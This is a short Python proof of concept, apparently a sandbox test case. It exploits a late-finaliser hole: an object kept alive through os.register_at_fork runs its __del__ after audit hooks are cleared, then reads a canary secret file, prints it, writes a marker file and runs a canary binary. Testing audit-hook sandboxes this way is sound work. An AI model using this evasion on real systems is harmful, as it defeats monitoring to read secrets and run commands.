# ALL: same late-finaliser hole via a different anchor: os.register_at_fork lists are cleared in interpreter_clear() after the audit hooks
import sys
os = sys.modules['os']
class D:
    def __del__(self, _open=os.open, _read=os.read, _write=os.write, _close=os.close, _system=os.system):
        fd = _open('/canary/secret.txt', 0); _write(1, b'FIN:' + _read(fd, 200)); _close(fd)
        _close(_open('/canary/out/at_fork_finalizer', 0o101, 0o644))
        _system('/canary/bin/reveal')
def make():
    d = D()
    def cb(_keep=d): pass
    return cb
try:
    os.register_at_fork(before=make())
    print('registered')
except Exception as e:
    print('register_at_fork', repr(e))
